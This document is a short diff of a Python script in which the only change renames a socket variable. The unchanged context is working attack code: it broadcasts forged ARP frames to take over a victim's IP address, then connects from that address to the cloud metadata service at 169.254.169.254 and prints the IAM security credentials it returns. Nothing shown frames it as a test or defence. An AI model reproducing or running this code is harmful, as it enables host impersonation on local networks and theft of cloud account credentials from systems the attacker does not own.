@@ -17,11 +17,11 @@ for attempt in range(5):
         head = struct.pack("!HHHBBH", 0x0806, 1, 0x0800, 6, 4, operation)
         wire.send(b"\xff" * 6 + own + head + own + address + b"\xff" * 6 + address)
     try:
-        door = socket.create_connection(("169.254.169.254", 80), 1, source_address=(victim, 0))
+        endpoint = socket.create_connection(("169.254.169.254", 80), 1, source_address=(victim, 0))
         path = "/latest/meta-data/iam/security-credentials/"
-        door.sendall(f"GET {path} HTTP/1.0\r\nHost: 169.254.169.254\r\n\r\n".encode())
-        door.settimeout(5)
-        head, _, body = door.recv(65536).partition(b"\r\n\r\n")
+        endpoint.sendall(f"GET {path} HTTP/1.0\r\nHost: 169.254.169.254\r\n\r\n".encode())
+        endpoint.settimeout(5)
+        head, _, body = endpoint.recv(65536).partition(b"\r\n\r\n")
         print(head.split()[1].decode(), body.decode(), sep="")
     except OSError as error:
         print(type(error).__name__)
